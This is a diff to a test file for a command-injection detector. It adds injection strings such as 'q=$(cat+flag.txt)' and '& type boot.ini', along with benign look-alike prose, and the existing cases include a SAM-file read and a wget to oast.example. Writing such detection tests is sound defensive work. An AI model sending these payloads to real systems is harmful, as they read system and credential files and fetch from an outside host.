@@ -518,6 +518,11 @@ const COMMAND_INJECTION: Case[] = [
   ["query", "run=|+type+C:%5CWindows%5Crepair%5CSAM"],
   ["query", "q=|id|"],
   ["query", "q=;sleep+5"],
+  // A command that is also a word, then a file's name (cmdinject.ts fileNameEnd).
+  ["query", "q=;cat+flag.txt"],
+  ["query", "q=$(cat+flag.txt)"],
+  ["query", "q=|more+config.php"],
+  ["body:json", JSON.stringify({ f: "& type boot.ini" })],
   // After the argument a command line was built around, or a quote that closes it.
   ["body:form", "logtype=XML&timezone=1%3Bwget+http%3A%2F%2Foast.example%3B"],
   ["query", "ip=127.0.0.1;id"],
@@ -550,6 +555,11 @@ const NOT_COMMAND_INJECTION: Case[] = [
   ["body:json", JSON.stringify({ body: "| id | name | type |\n|---|---|---|\n| 1 | a | b |" })],
   ["body:json", JSON.stringify({ body: "| more | info |" })],
   ["query", "q=%26+at+home"],
+  // A word and a stop is no file's name, nor is a word with a long ending; a file's name after line
+  // breaks alone is left to the model.
+  ["query", "q=;+more+info.+Thanks"],
+  ["query", "q=|+more+sales.department"],
+  ["body:json", JSON.stringify({ note: "\nType setup.exe to install" })],
   // A Markdown code fence.
   ["body:json", JSON.stringify({ body: "```sh\n$ ls -la\n$ cat package.json\n```" })],
   // An argument and a ';' before a word that is no command, or a command word that reads as prose.
